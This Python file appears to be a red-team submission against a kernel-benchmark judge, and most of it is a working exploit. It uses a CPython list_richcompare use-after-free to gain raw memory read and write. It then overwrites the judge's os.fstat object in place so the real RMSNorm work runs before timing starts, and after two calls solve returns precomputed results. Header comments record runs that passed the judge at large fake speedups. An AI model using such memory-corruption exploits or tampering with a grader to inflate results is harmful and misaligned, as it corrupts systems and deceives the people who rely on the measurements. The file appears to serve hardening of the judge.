# Ninth session's red team (2026-12-07, CPU judge): passed permissive at 167-179x at dc4d6af (1 run
# of 3 crashed). list_richcompare's borrowed final comparison (the kernel's own __lt__ / __gt__, a
# static violation in strict mode) gives raw memory; os.fstat is rewritten in place into a
# functools.partial that the worker's main thread calls opening each call's inputs. Stopped at run
# time by worker._hold_compared_items (lists compared as tuples of their items).
# (primitive from list_richcompare_uaf) Seventh session's red team, round 6 (2026-12-06, CPU judge): passed strict and permissive at
# (primitive from list_richcompare_uaf) f850d23 (see the case's why); no runtime layer stops it (docs/judge.md, residual risks).
# (primitive from list_richcompare_uaf) list_richcompare (CPython 3.11): after the first differing index, the final
# (primitive from list_richcompare_uaf) PyObject_RichCompare(vl->ob_item[i], wl->ob_item[i], op) uses borrowed items. v.__lt__ clears
# (primitive from list_richcompare_uaf) both lists and returns NotImplemented: v and w are freed, then do_richcompare calls w's
# (primitive from list_richcompare_uaf) reflected __gt__ with the freed w as self; a bytearray buffer of the same size class takes the
# (primitive from list_richcompare_uaf) block, laid out as a fake bytearray header over the whole address space.
import torch

_state = {}
_N = 20
_BS = 16 + 8 * _N  # W's basicsize; its block is 16 (GC header) + that
_FAKE = (bytes(16) + (1 << 40).to_bytes(8, 'little') + id(bytearray).to_bytes(8, 'little')
         + (1 << 60).to_bytes(8, 'little') * 2 + bytes(24)).ljust(_BS + 16 - 1, b'\0')


class W:
    __slots__ = tuple('s%d' % i for i in range(_N))

    def __gt__(self, other):
        hold = bytearray(_FAKE)
        _state['w'] = self
        _state['h'] = hold
        return False


def _rawmem():
    a = []
    b = []

    class V:
        def __lt__(self, other):
            a.clear()
            b.clear()
            return NotImplemented

    a.append(V())
    b.append(W())
    a < b
    m = _state.get('w')
    if type(m) is not bytearray:
        raise RuntimeError("no fake object")
    return m


def _prim():
    if 'mem' not in _state:
        _state['mem'] = _rawmem()
    return _state['mem']


# --- red team 9: the judge's own os.fstat object (values._fstat, guarded by identity only)
# turned IN PLACE into a functools.partial through raw memory: its type pointer and fields
# overwritten with those of partial(dict.get, {k: fake_stat}, k). The binding never changes, so
# the clock guard (identity of guarded names, owner types, dict versions) sees nothing. The
# worker's MAIN thread calls _fstat(fd) in CpuTransport._map while opening each call's inputs,
# after the host wrote them and before the clock: dict.get hashes k, whose __hash__ is
# partial(operator.countOf, _Ops(), None) over a fresh map of the ops (views kept into the
# input arena), which computes the answer. The main thread's CPU bound (1 ms + 25% over
# calibration) holds the ~0.3 ms of work.
import functools
import operator
import os
import types


class _Ops:
    pass


class _K:
    pass


def _ops(x, r, w, out):
    s = torch.empty(x.shape, dtype=torch.float32)
    m = torch.empty((x.shape[0], 1), dtype=torch.float32)
    eps = torch.full((1, 1), 1e-5, dtype=torch.float32)
    return [
        functools.partial(s.copy_, x),
        functools.partial(s.add_, r),
        functools.partial(torch.linalg.vector_norm, s, 2, -1, True, out=m),
        functools.partial(torch.addcmul, eps, m, m, value=1.0 / x.shape[-1], out=m),
        functools.partial(m.rsqrt_),
        functools.partial(s.mul_, m),
        functools.partial(torch.mul, s, w, out=out),
    ]


_Ops.__iter__ = functools.partial(iter, ())
_K.__hash__ = functools.partial(operator.countOf, _Ops(), None)
_k = _K()
_fake = types.SimpleNamespace(st_dev=-7, st_ino=-7)
_keep = []
_prim()


def _morph():
    mem = _prim()
    p = functools.partial(dict.get, {_k: _fake}, _k)
    _keep.append(p)
    target = id(os.fstat)
    src = id(p)
    words = [mem[src + off:src + off + 8] for off in range(8, 64, 8)]
    for off, word in zip(range(8, 64, 8), words):
        mem[target + off:target + off + 8] = word


def _honest(x, residual, weight):
    s = x.float() + residual.float()
    inv = torch.rsqrt(s.pow(2).mean(-1, keepdim=True) + 1e-5)
    return (s * inv * weight.float()).to(x.dtype)


def solve(x, residual, weight):
    if _state.get("armed", 0) >= 2:
        return _state["nxt"]
    result = _honest(x, residual, weight)
    if _state.get("armed", 0) == 0:
        nxt = torch.empty_like(x)
        _state["nxt"] = nxt
        ops = _ops(x.view(x.shape), residual.view(residual.shape), weight.view(weight.shape), nxt)
        _Ops.__iter__ = functools.partial(map, operator.call, ops)
        _morph()
    _state["armed"] = _state.get("armed", 0) + 1
    return result
